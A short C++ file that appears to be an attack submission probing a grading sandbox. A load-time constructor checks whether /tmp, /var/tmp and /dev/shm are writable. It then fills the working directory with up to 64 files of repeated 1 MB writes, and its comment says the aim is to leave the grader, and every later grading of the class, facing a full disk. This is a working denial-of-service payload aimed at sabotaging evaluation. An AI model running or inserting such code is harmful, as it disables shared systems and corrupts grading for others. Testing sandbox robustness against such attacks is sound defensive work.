// Attack: fill every writable place, so that the grading (and every later one of the
// class) finds a full disk.
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <unistd.h>
#include <fcntl.h>
#include <signal.h>

__attribute__((constructor)) static void attack_fill(void)
{
	static char block[1 << 20];
	char path[64];
	const char *elsewhere[] = {"/tmp", "/var/tmp", "/dev/shm"};
	signal(SIGXFSZ, SIG_IGN); /* a file over the limit: EFBIG, then the next file */
	for (int i = 0; i < 3; i++) {
		snprintf(path, sizeof(path), "%s/particle-labs-flood-%d", elsewhere[i], (int)getpid());
		int fd = open(path, O_WRONLY | O_CREAT, 0600);
		fprintf(stderr, "attack-note: %s: %s\n", elsewhere[i], fd < 0 ? strerror(errno) : "opened");
		if (fd >= 0)
			close(fd), unlink(path);
	}
	for (int k = 0; k < 64; k++) {
		snprintf(path, sizeof(path), "fill-%d", k);
		int fd = open(path, O_WRONLY | O_CREAT, 0600);
		if (fd < 0)
			break;
		while (write(fd, block, sizeof(block)) > 0)
			;
		close(fd);
	}
	fprintf(stderr, "attack-note: the flood ended unstopped\n");
}
